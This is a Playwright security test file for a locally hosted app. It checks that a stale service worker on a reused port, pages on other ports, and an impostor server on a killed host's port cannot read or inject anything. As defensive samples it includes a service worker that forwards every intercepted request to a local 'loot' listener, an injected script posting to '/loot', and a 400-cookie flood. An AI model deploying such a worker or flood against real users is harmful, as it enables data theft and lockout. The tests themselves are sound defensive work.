/**
 * What others on the same computer try on the browser host through the user's own browser: who had its port before, who
 * listens at another port, and who takes its port when it has ended.
 */
import { once } from 'node:events';
import { createServer, type IncomingMessage, type RequestListener, type Server } from 'node:http';
import { text } from 'node:stream/consumers';
import type { Page } from '@playwright/test';
import { startBrowserHost } from '../support/browser-host.ts';
import { expect, test } from './app.ts';

const secret = 'Confides in nobody but me';

test.beforeEach(({ app: _unused }, { project }) => {
  test.skip(project.name === 'desktop', 'The desktop app listens at no port.');
});

type Stranger = {
  readonly port: number;
  /** What it was told, each request as one text. */
  readonly heard: readonly string[];
  readonly end: () => Promise<void>;
};

async function listen(answer: RequestListener, port = 0): Promise<Stranger> {
  const heard: string[] = [];
  const server: Server = createServer(async (request: IncomingMessage, response) => {
    const { method, url, headers } = request;
    heard.push(`${method} ${url} ${JSON.stringify(headers)} ${await text(request)}`);
    answer(request, response);
  });
  await once(server.listen(port, '127.0.0.1'), 'listening');
  const address = server.address();
  const end = async () => {
    server.closeAllConnections();
    await new Promise((resolve) => server.close(resolve));
  };
  return { port: typeof address === 'object' ? (address?.port ?? 0) : 0, heard, end };
}

async function writeName(page: Page) {
  await page.getByLabel('Your name').fill(secret);
  await page.getByRole('button', { name: 'Start writing' }).click();
  await expect(page.getByTestId('save-status')).toHaveText('Saved');
}

test('who had the port before hears nothing, though it left a service worker behind', async ({
  app,
  openBrowser,
}) => {
  const loot = await listen((_request, response) => response.end());
  const worker = `
    addEventListener('install', () => skipWaiting());
    addEventListener('activate', (event) => event.waitUntil(clients.claim()));
    addEventListener('fetch', (event) => event.respondWith((async () => {
      const body = await event.request.clone().text();
      await fetch('http://127.0.0.1:${loot.port}/', { method: 'POST', mode: 'no-cors', body: event.request.url + body });
      return fetch(event.request);
    })()));`;
  const before = await listen((request, response) => {
    const isWorker = request.url === '/worker.js';
    response.setHeader('content-type', isWorker ? 'text/javascript' : 'text/html');
    response.end(isWorker ? worker : '<script>navigator.serviceWorker.register("/worker.js")</script>');
  });
  const context = await (await openBrowser()).newContext();
  const visitor = await context.newPage();
  for (const name of ['127.0.0.1', 'localhost']) {
    await visitor.goto(`http://${name}:${before.port}/`);
    await visitor.evaluate(() => navigator.serviceWorker.ready.then(() => true));
  }
  // It is at work: what the visitor asks for there reaches whoever left it.
  const asks = async () => {
    await visitor.evaluate(() => fetch('/asked-for'));
    return loot.heard.join();
  };
  await expect.poll(asks).toContain('/asked-for');
  const atStart = loot.heard.length;
  await before.end();

  const host = await startBrowserHost(app.dataFolder, '--port', String(before.port));
  const page = await context.newPage();
  await page.goto(host.address);
  await writeName(page);
  await page.reload();
  await expect(page.getByRole('heading', { name: 'Who they are' })).toBeVisible();
  expect(loot.heard.slice(atStart)).toEqual([]);
  await context.close();
  await host.kill();
  await loot.end();
});

test('who listens at another port gets no cookie, and its page reads nothing', async ({
  app,
  openBrowser,
}) => {
  const host = await startBrowserHost(app.dataFolder);
  const context = await (await openBrowser()).newContext();
  const page = await context.newPage();
  await page.goto(host.address);
  await writeName(page);
  expect(await context.cookies()).toEqual([]);

  const flood = Array.from({ length: 400 }, (_, count) => `flood${count}=1; Path=/`);
  const other = await listen((request, response) => {
    response.setHeader('content-type', 'text/html');
    if (request.url === '/flood') response.setHeader('set-cookie', flood);
    response.end('<h1>Another program</h1>');
  });
  const { hostname, origin } = new URL(host.address);
  const visitor = await context.newPage();
  for (const name of ['127.0.0.1', 'localhost', hostname]) {
    await visitor.goto(`http://${name}:${other.port}/`);
    const got = await visitor.evaluate(async (address) => {
      const tell = (answer: Response) => answer.text();
      const refused = () => 'refused';
      const frame = document.createElement('iframe');
      frame.src = address;
      document.body.append(frame);
      await new Promise((resolve) => frame.addEventListener('load', resolve));
      // A browser shows an error of its own in the frame, which is as little to be read.
      let framed = 'refused';
      try {
        framed = frame.contentDocument?.title ?? 'refused';
      } catch {}
      return Promise.all([
        fetch(`${address}/rpc/openWorkspace`, { method: 'POST', body: '{}' }).then(tell, refused),
        fetch(address, { credentials: 'include' }).then(tell, refused),
        fetch(`${address}/icon.svg`, { mode: 'no-cors' }).then(tell, refused),
        framed,
        JSON.stringify({ ...localStorage, cookie: document.cookie }),
      ]);
    }, origin);
    expect(got).toEqual(['refused', 'refused', 'refused', 'refused', '{"cookie":""}']);
  }
  expect(other.heard.length).toBeGreaterThanOrEqual(3);
  expect(other.heard.filter((request) => request.includes('"cookie"'))).toEqual([]);
  expect(other.heard.join()).not.toContain(secret);

  // A flood of cookies at another port locks nobody out.
  await visitor.goto(`http://${hostname}:${other.port}/flood`);
  await page.reload();
  await expect(page.getByRole('heading', { name: 'Who they are' })).toBeVisible();
  await context.close();
  await host.kill();
  await other.end();
});

test('who takes the port of a host that was killed is told nothing that it can read, and not believed', async ({
  app,
  openBrowser,
}) => {
  const host = await startBrowserHost(app.dataFolder);
  const context = await (await openBrowser()).newContext();
  const page = await context.newPage();
  await page.goto(host.address);
  await writeName(page);
  await page.getByRole('link', { name: 'Settings' }).click();
  // The section’s code comes from the host that is about to end.
  await expect(page.getByLabel('Your role')).toBeVisible();
  const port = Number(new URL(host.address).port);
  await host.kill();
  const impostor = await listen((_request, response) => {
    response.setHeader('content-type', 'application/json');
    response.end('{"ok":true,"value":{}}');
  }, port);
  await page.getByLabel('Your role').fill('Known to nobody else');
  const alert = page.getByRole('alert').filter({ hasText: 'is not the Common Ground that opened this page' });
  await expect(alert.first()).toBeVisible();
  await expect(page.getByText('Saved', { exact: true })).toHaveCount(0);
  const questions = () => impostor.heard.filter((request) => request.includes('/rpc/'));
  const asked = questions().length;
  await page.getByRole('button', { name: 'Try again' }).first().click();
  await expect(alert.first()).toBeVisible();
  // Once was enough: nothing more is asked, and what was asked says nothing.
  expect(questions().length).toBe(asked);
  expect(impostor.heard.join()).not.toMatch(/Known|nobody|role/);
  await context.close();
  await impostor.end();
});

test('an address of an earlier start says where the app is to be found', async ({ app, openBrowser }) => {
  // Any port: the usual one is that of every host that is started beside this one.
  const first = await startBrowserHost(app.dataFolder, '--port', '0');
  await first.kill();
  const { port } = new URL(first.address);
  const second = await startBrowserHost(app.dataFolder, '--port', port);
  const context = await (await openBrowser()).newContext();
  const page = await context.newPage();
  await page.goto(first.address);
  await expect(page.getByRole('heading', { name: 'This address does not open Common Ground' })).toBeVisible();
  await page.goto(new URL(second.address).origin);
  await expect(page.getByText('Each link works once')).toBeVisible();
  await context.close();
  await second.kill();
});

test('who takes the port of a host that was killed puts no script, style, worker or font of its own into the page', async ({
  app,
  openBrowser,
  complaints,
}) => {
  const host = await startBrowserHost(app.dataFolder);
  const context = await (await openBrowser()).newContext();
  const page = await context.newPage();
  // What the page fetches while it has nothing else to do, it does not have yet.
  await page.addInitScript(() => Reflect.set(window, 'requestIdleCallback', () => 0));
  // The import gets its reader ready when it is opened; here it is to have failed by then.
  const reader = /\/assets\/import-worker-/;
  await page.route(reader, (route) => route.abort());
  await page.goto(host.address);
  await writeName(page);
  await page.getByRole('link', { name: 'Settings' }).click();
  await page
    .getByRole('button', { name: /^Import/ })
    .first()
    .click();
  await expect(page.getByLabel('Files to import')).toBeAttached();
  const port = Number(new URL(host.address).port);
  await host.kill();
  await page.unroute(reader);
  const script =
    'globalThis.intruded = true; fetch("/loot", { method: "POST", body: "at work" }); export {};';
  const impostor = await listen(({ url = '' }, response) => {
    const isStyle = url.endsWith('.css');
    response.setHeader('content-type', isStyle ? 'text/css' : 'text/javascript');
    response.setHeader('access-control-allow-origin', '*');
    response.end(isStyle ? ':root { --intruded: yes; }' : script);
  }, port);
  const asked = (what: RegExp) => expect.poll(() => impostor.heard.join('\n')).toMatch(what);

  await page.getByLabel('Files to import').setInputFiles({
    name: 'people.csv',
    mimeType: 'text/csv',
    buffer: Buffer.from(`Name\n${secret}`),
  });
  await asked(/GET \/assets\/import-worker-/);
  await expect(
    page.getByText('the part of Common Ground that reads them could not be fetched'),
  ).toBeVisible();
  await page.keyboard.press('Escape');
  await page.getByRole('link', { name: 'People', exact: true }).click();
  await asked(/GET \/assets\/People-.*js/);
  await asked(/GET \/assets\/People-.*css/);
  // Letters that the page had no font for until now.
  await page.evaluate(() => document.body.append('Ελένη Жанна'));
  await asked(/GET \/assets\/inter-.*woff2/);
  await expect
    .poll(() => page.evaluate(() => [...document.fonts].map(({ status }) => status).includes('error')))
    .toBe(true);
  const intruded = await page.evaluate(() => [
    'intruded' in globalThis,
    getComputedStyle(document.documentElement).getPropertyValue('--intruded'),
  ]);
  expect(intruded).toEqual([false, '']);
  expect(impostor.heard.join('\n')).not.toMatch(/loot|Confides/);
  complaints.length = 0;
  await context.close();
  await impostor.end();
});
